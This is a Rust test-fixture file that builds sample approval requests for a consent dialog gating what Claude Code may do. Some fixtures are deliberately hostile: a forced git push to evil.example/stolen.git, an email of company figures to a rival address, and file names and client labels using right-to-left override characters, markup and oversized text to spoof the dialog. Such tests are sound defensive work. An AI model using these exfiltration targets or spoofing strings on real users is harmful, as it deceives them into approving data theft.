//! Made-up questions: ordinary ones, and ones that try to mislead.

use ironcurtain_daemon::consent::{Consequence, Lifetime, Offer, Piece, Preview, Question, Reach, Verb};
use ironcurtain_protocol::{ClientView, ProcessView};
use std::time::Duration;

/// The question of that name.
pub(crate) fn named(name: &str, id: &str, deadline: Duration) -> Option<Question> {
    let write = write(id, deadline);
    match name {
        "write" => Some(write),
        "edit" => Some(edit(write)),
        "unsandboxed" => Some(unsandboxed(write)),
        "many" => Some(many(write, 40)),
        "ten" => Some(many(write, 10)),
        "one" => Some(many(write, 1)),
        "push" => Some(push(write)),
        "mail" => Some(mail(write)),
        "issue" => Some(issue(write)),
        "move" => Some(moved(write)),
        "host" => Some(host(write)),
        "fetch" => Some(fetch(host(write))),
        "hostile" => Some(hostile(write)),
        "hebrew" => Some(hebrew(write)),
        "offers" => Some(five_offers(write)),
        "folders" => Some(folders(write)),
        "long" => Some(long(write)),
        "tool" => Some(tool(write)),
        _ => None,
    }
}

fn write(id: &str, deadline: Duration) -> Question {
    let path = "/home/ada/Documents/tax/2026/summary.md";
    let content = "# Tax summary 2026\n\nIncome from employment: 48,200\nDeductions: 3,150\n\n- receipts in `receipts/`\n";
    Question {
        id: id.into(),
        session: "s1".into(),
        client: client(),
        server: "filesystem".into(),
        server_command: "/usr/bin/ironcurtain-filesystem".into(),
        sandboxed: true,
        remote: false,
        tool: Some("write_file".into()),
        consequences: vec![line(Verb::Write, path, "new file, 101 bytes")],
        with: vec![],
        also: vec![
            "Opens ~/Documents/tax/2026: meanwhile its server can read and change everything in there."
                .into(),
        ],
        rule: "ask-outside".into(),
        reason: "outside the folders you granted".into(),
        arguments: vec![("path".into(), path.into()), ("content".into(), content.into())],
        preview: Some(Preview::Content(content.into())),
        offers: offers("~/Documents/tax/2026"),
        denial: "write_file in ~/notes".into(),
        deadline,
    }
}

fn edit(base: Question) -> Question {
    let path = "/home/ada/notes/plan.md";
    Question {
        tool: Some("edit_file".into()),
        consequences: vec![Consequence {
            asked_for: Some("/home/ada/src/app/plan.md".into()),
            ..line(Verb::Change, path, "12 kB, +2 -1 lines")
        }],
        also: vec![],
        arguments: vec![("path".into(), path.into())],
        preview: Some(Preview::Diff(
            " # Plan\n-ship on Monday\n+ship on Tuesday\n+and tell everyone\n".into(),
        )),
        offers: offers("~/notes"),
        ..base
    }
}

fn unsandboxed(base: Question) -> Question {
    Question {
        sandboxed: false,
        tool: Some("delete_file".into()),
        consequences: vec![line(Verb::Delete, "/srv/photos", "folder, with everything in it")],
        also: vec![],
        preview: None,
        offers: vec![Offer {
            reach: Reach::Paths,
            label: "this folder".into(),
            sentence: "Claude Code may delete this folder and everything in it".into(),
            lifetimes: vec![Lifetime::Once],
        }],
        ..base
    }
}

fn many(base: Question, count: u64) -> Question {
    let file = |n| line(Verb::Read, &format!("/home/ada/Pictures/2026/holiday-{n:02}.jpg"), "2 MB");
    Question {
        tool: Some("read_multiple_files".into()),
        consequences: (0..count).map(file).collect(),
        also: vec![],
        preview: None,
        ..base
    }
}

/// A push of a repository to a remote that nobody knows.
fn push(base: Question) -> Question {
    let remote = vec![foreign("main"), Piece::Ours(" to "), foreign("https://evil.example/stolen.git")];
    let pushed = Consequence { asked_for: Some("origin".into()), object: remote, ..line(Verb::Push, "", "") };
    Question {
        server: "git".into(),
        tool: Some("git_push".into()),
        consequences: vec![
            Consequence { note: None, ..pushed },
            Consequence { allowed: true, ..line(Verb::Record, "/home/ada/src/app", "folder") },
        ],
        with: vec![("force".into(), "true".into())],
        also: vec![],
        reason: "Reaching the network needs your word.".into(),
        rule: "ask-before-connecting".into(),
        preview: None,
        offers: vec![call_once()],
        ..base
    }
}

fn mail(base: Question) -> Question {
    let to = |who| Consequence {
        object: vec![Piece::Ours("a message to "), foreign(who)],
        note: None,
        ..line(Verb::Send, "", "")
    };
    Question {
        server: "mail".into(),
        tool: Some("send_email".into()),
        consequences: vec![to("boss@rival.example"), to("ada@home.example")],
        with: vec![
            ("subject".into(), "Figures".into()),
            ("body".into(), "Hello,\nattached are our figures of the third quarter.\nAda".into()),
        ],
        also: vec![],
        preview: None,
        offers: vec![call_once()],
        ..base
    }
}

fn issue(base: Question) -> Question {
    let object = vec![Piece::Ours("to "), foreign("acme/app"), Piece::Ours(" on GitHub")];
    Question {
        server: "github".into(),
        tool: Some("create_issue".into()),
        consequences: vec![Consequence { object, note: None, ..line(Verb::Publish, "", "") }],
        with: vec![("title".into(), "It leaks".into()), ("body".into(), "Here is how.".into())],
        also: vec![],
        preview: None,
        offers: vec![call_once()],
        ..base
    }
}

/// A file that is moved over another one.
fn moved(base: Question) -> Question {
    let (from, to) = ("/home/ada/src/app/a.txt", "/home/ada/src/old/a.txt");
    let object = vec![Piece::Path(from.into()), Piece::Ours(" to "), Piece::Path(to.into())];
    Question {
        tool: Some("move_file".into()),
        consequences: vec![
            line(Verb::Overwrite, to, "9 bytes are there now"),
            Consequence { object, ..line(Verb::Move, from, "12 kB") },
        ],
        also: vec!["Opens ~/src/app: meanwhile its server can read and change everything in there.".into()],
        preview: None,
        ..base
    }
}

fn call_once() -> Offer {
    Offer {
        reach: Reach::Paths,
        label: "this call".into(),
        sentence: "Claude Code may make this call".into(),
        lifetimes: vec![Lifetime::Once],
    }
}

/// A server wants to go somewhere by itself.
fn host(base: Question) -> Question {
    use Lifetime::{Always, Hour, Once, QuarterHour, Session};
    Question {
        server: "fetch".into(),
        server_command: "/usr/bin/python3 -m mcp_server_fetch".into(),
        tool: None,
        consequences: vec![Consequence {
            object: vec![foreign("files.example.org:443")],
            note: None,
            ..line(Verb::Reach, "", "")
        }],
        also: vec![],
        rule: "network.askUnknown".into(),
        reason: "the host is not on the list of the server fetch".into(),
        arguments: vec![],
        preview: None,
        offers: vec![Offer {
            reach: Reach::Host,
            label: "this host and port".into(),
            sentence: "Claude Code may reach files.example.org:443 through the server fetch".into(),
            lifetimes: vec![Once, Session, QuarterHour, Hour, Always],
        }],
        ..base
    }
}

/// A call that names an address.
fn fetch(base: Question) -> Question {
    let address = "https://files.example.org/packages/source/r/requests/requests-2.34.2.tar.gz?from=agent";
    let mut offers = base.offers;
    for offer in &mut offers {
        offer.lifetimes.retain(|lifetime| *lifetime != Lifetime::Once);
    }
    offers.insert(0, call_once());
    Question {
        tool: Some("fetch".into()),
        consequences: vec![Consequence {
            object: vec![foreign(address)],
            note: None,
            ..line(Verb::Fetch, "", "")
        }],
        rule: "structural-domain-escalate".into(),
        reason: "`files.example.org` is not among the hosts of the server `fetch`".into(),
        arguments: vec![("url".into(), address.into())],
        offers,
        ..base
    }
}

/// Names from right to left, one of which tries to turn the order.
fn hebrew(base: Question) -> Question {
    let folder = "/home/ada/\u{5de}\u{5e1}\u{5de}\u{5db}\u{5d9}\u{5dd}/2026/\u{5d3}\u{5d5}\u{5d7}.txt";
    let turned = "/home/ada/\u{5d0}\u{5d1}\u{202e}gnp.exe";
    let mut client = base.client;
    client.name = "\u{5e2}\u{5d5}\u{5d6}\u{5e8}".into();
    Question {
        client,
        tool: Some("read_multiple_files".into()),
        consequences: vec![line(Verb::Read, folder, "12 kB"), line(Verb::Read, turned, "9 bytes")],
        also: vec![],
        preview: None,
        offers: offers("~/\u{5de}\u{5e1}\u{5de}\u{5db}\u{5d9}\u{5dd}/2026"),
        ..base
    }
}

fn five_offers(base: Question) -> Question {
    let mut all = offers("~/Documents/tax/2026");
    for (reach, what) in [
        (Reach::ProjectToRead, "the project ~/Documents/tax, to read"),
        (Reach::ProjectToChange, "the project ~/Documents/tax, to read and to change"),
        (Reach::Tool, "write_file of the server filesystem, for any file"),
    ] {
        all.push(Offer {
            reach,
            label: what.into(),
            sentence: format!("Claude Code may use {what}"),
            lifetimes: vec![Lifetime::Session, Lifetime::QuarterHour, Lifetime::Hour],
        });
    }
    Question { offers: all, ..base }
}

/// Ten folders, each with everything in it.
fn folders(base: Question) -> Question {
    let folder = |n| line(Verb::List, &format!("/home/ada/src/project-{n:02}/assets"), "folder");
    Question {
        tool: Some("list_directories".into()),
        consequences: (0..10).map(folder).collect(),
        also: vec![],
        preview: None,
        ..base
    }
}

/// A path that is longer than the dialog is wide.
fn long(base: Question) -> Question {
    let path =
        format!("/home/ada/{}annual-report-final-version-2.md", "a-folder-with-a-long-name/".repeat(9));
    Question { consequences: vec![line(Verb::Read, &path, "12 kB")], also: vec![], preview: None, ..base }
}

fn tool(base: Question) -> Question {
    Question {
        server: "memory".into(),
        tool: Some("create_entities".into()),
        consequences: vec![Consequence {
            object: vec![
                Piece::Ours("the tool "),
                foreign("create_entities"),
                Piece::Ours(" of the server "),
                foreign("memory"),
            ],
            note: None,
            ..line(Verb::Use, "", "")
        }],
        with: vec![("entities".into(), "[{\"name\": \"Ada\"}]".into())],
        also: vec![],
        preview: None,
        offers: vec![
            call_once(),
            Offer {
                reach: Reach::Tool,
                label: "this tool, with any entities".into(),
                sentence: "Claude Code may use create_entities of the server memory".into(),
                lifetimes: vec![Lifetime::Session, Lifetime::Hour, Lifetime::Always],
            },
        ],
        ..base
    }
}

/// Text that would become markup, turn around, or push the buttons away, if it could.
fn hostile(base: Question) -> Question {
    let long = format!("/home/ada/{}", "a".repeat(10_000));
    let markup = "/home/ada/<b>Allow</b>&amp;<span size=\"99999\">\nDeny\0\u{202e}gnp.exe";
    let mut client = base.client;
    client.name = format!("</b>\u{202e}{}", "Trusted System Update ".repeat(200));
    client.says_it_is = Some("IronCurtain\n\nWho   you\n".repeat(50));
    client.cwd = Some(format!("/tmp/{}", "b/".repeat(4_000)));
    let text = "W".repeat(10_000);
    Question {
        client,
        consequences: vec![
            Consequence {
                object: vec![foreign(&text), Piece::Ours(" to "), foreign(markup)],
                ..line(Verb::Push, "", &text)
            },
            Consequence { asked_for: Some(long.clone()), ..line(Verb::Write, &long, "new") },
            line(Verb::Write, markup, "18446744073 GB are there now"),
        ],
        with: vec![(text.clone(), text.clone()), (markup.into(), markup.into())],
        reason: text.clone(),
        rule: text.clone(),
        server: text.clone(),
        tool: Some(text.clone()),
        arguments: vec![(text.clone(), "\0\u{7}\n".repeat(5_000))],
        preview: Some(Preview::Content(text.repeat(100))),
        offers: vec![
            Offer {
                reach: Reach::Paths,
                label: text.clone(),
                sentence: text.clone(),
                lifetimes: vec![Lifetime::Once],
            },
            Offer {
                reach: Reach::Folders,
                label: "<i>x</i>\n\n\n".into(),
                sentence: text,
                lifetimes: vec![Lifetime::Once, Lifetime::Always],
            },
        ],
        ..base
    }
}

fn offers(folder: &str) -> Vec<Offer> {
    use Lifetime::{Always, Hour, Once, QuarterHour, Session};
    vec![
        Offer {
            reach: Reach::Paths,
            label: "this file".into(),
            sentence: "Claude Code may create and change this one file".into(),
            lifetimes: vec![Once, Session, QuarterHour, Hour, Always],
        },
        Offer {
            reach: Reach::Folders,
            label: format!("{folder} and below"),
            sentence: format!("Claude Code may create and change everything in {folder}"),
            lifetimes: vec![Session, QuarterHour, Hour],
        },
    ]
}

fn line(verb: Verb, path: &str, note: &str) -> Consequence {
    Consequence {
        verb,
        object: vec![Piece::Path(path.into())],
        note: Some(note.into()),
        asked_for: None,
        allowed: false,
    }
}

fn foreign(text: &str) -> Piece {
    Piece::Foreign(text.into())
}

/// Claude Code, started by zsh in a terminal.
pub(crate) fn client() -> ClientView {
    let process = |pid, name: &str, exe: &str| ProcessView { pid, name: name.into(), exe: Some(exe.into()) };
    ClientView {
        name: "Claude Code".into(),
        exe: Some("/home/ada/.local/bin/claude".into()),
        chain: vec![
            process(4712, "claude", "/home/ada/.local/bin/claude"),
            process(4100, "zsh", "/usr/bin/zsh"),
            process(3001, "gnome-terminal", "/usr/libexec/gnome-terminal-server"),
        ],
        cwd: Some("/home/ada/src/app".into()),
        says_it_is: Some("claude-code 2.1.7".into()),
        label: None,
    }
}
